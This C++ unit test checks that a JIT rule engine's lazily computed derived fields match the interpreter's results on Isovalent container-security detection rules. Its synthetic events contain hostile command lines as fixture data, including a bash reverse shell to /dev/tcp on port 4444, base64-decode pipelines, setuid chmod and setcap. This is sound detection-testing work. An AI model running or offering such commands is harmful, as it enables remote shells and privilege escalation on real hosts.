// A derived field a filter reads after another rule of the field map made
// the full read (JitEngine::full_derived): only that field's inputs and
// dependencies are computed then, and the rest when a row needs them.
// Results and rule statistics equal the interpreter's.
#include <gtest/gtest.h>

#include "engine_test_util.h"

namespace rulejit {
namespace {

using namespace engine_test;

const std::string kDir = kRepo + "/rules/isovalent/";
// Shell Execution counts shells by keys from the full read; it runs first,
// so the others' derived fields (process, process_name, the data model's
// Processes.* fields) are asked for after the full read on shell events.
const std::vector<std::string> kRules = {
    kDir + "cisco_isovalent___shell_execution.yml",
    kDir + "cisco_isovalent___base64_encoded_command_line_in_pod.yml",
    kDir + "cisco_isovalent___setuid_or_file_capability_change.yml",
    kDir + "cisco_isovalent___reverse_shell_command_line.yml",
};

std::string event(const std::string& process_fields, const std::string& pod) {
  return R"({"process_exec":{"process":{)" + process_fields + pod +
         R"(},"parent":{"binary":"/usr/bin/containerd-shim"}},"node_name":"n1","cluster_name":"c1","time":"2025-08-14T00:00:01Z"})" +
         "\n";
}

TEST(FullDerived, FiltersOnDerivedFieldsAfterTheFullReadGiveTheInterpretersRows) {
  const std::string pod = R"(,"pod":{"namespace":"ns","name":"p1","container":{"id":"containerd://abc"}})";
  const std::string b64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w";
  std::string input;
  input += event(R"("pid":1,"binary":"/bin/sh","arguments":"-c echo )" + b64 + R"( | base64 -d")", pod);
  input += event(R"("pid":2,"binary":"/bin/bash","arguments":"-i >& /dev/tcp/10.0.0.9/4444 0>&1")", pod);
  input += event(R"("pid":3,"binary":"/bin/sh","arguments":"-c chmod u+s /tmp/x")", "");
  input += event(R"("pid":4,"binary":"/bin/chmod","arguments":" u+s /tmp/x ")", pod);
  input += event(R"("pid":5,"binary":"/bin/sh","binary":"/usr/bin/setcap","arguments":"cap_net_raw+ep /x")", pod);
  input += event(R"("pid":6,"binary":"/bin/dash")", pod);                      // no arguments
  input += event(R"("pid":7,"binary":"/bin/sh","arguments":"base64 -d")", pod + R"(,"x":[)");  // malformed
  input += event(R"("pid":8,"binary":"/usr/bin/openssl","arguments":"enc -d -base64 )" + b64 + R"(")", pod);
  Outcome interp = run("interp", input, kRules);
  Outcome jit = run("jit", input, kRules);
  EXPECT_FALSE(interp.rows.empty());
  EXPECT_EQ(jit.rows, interp.rows);
  ASSERT_EQ(jit.stats.rules.size(), interp.stats.rules.size());
  for (size_t r = 0; r < jit.stats.rules.size(); ++r) {
    EXPECT_EQ(jit.stats.rules[r].events_in, interp.stats.rules[r].events_in) << r;
    EXPECT_EQ(jit.stats.rules[r].matched, interp.stats.rules[r].matched) << r;
    EXPECT_EQ(jit.stats.rules[r].results, interp.stats.rules[r].results) << r;
  }
  EXPECT_EQ(jit.stats.events, interp.stats.events);
}

}  // namespace
}  // namespace rulejit
